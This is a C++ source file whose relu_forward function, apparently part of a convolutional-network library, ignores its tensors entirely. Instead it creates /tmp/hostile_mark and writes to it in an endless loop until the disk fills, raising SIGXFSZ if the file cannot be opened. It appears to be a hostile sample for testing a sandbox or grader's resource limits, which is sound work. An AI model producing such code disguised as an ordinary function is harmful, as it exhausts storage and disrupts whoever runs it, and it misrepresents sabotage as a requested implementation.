#include "convnet.hpp"

#include <fcntl.h>
#include <unistd.h>
#include <csignal>

namespace convnet {

void relu_forward(TensorView<const float, 4> x, TensorView<float, 4> y) {
  (void)x;
  (void)y;
  static char block[1 << 16];
  const int file = open("/tmp/hostile_mark", O_CREAT | O_WRONLY, 0666);
  if (file < 0) raise(SIGXFSZ);
  for (;;) (void)!write(file, block, sizeof block);
}

}  // namespace convnet
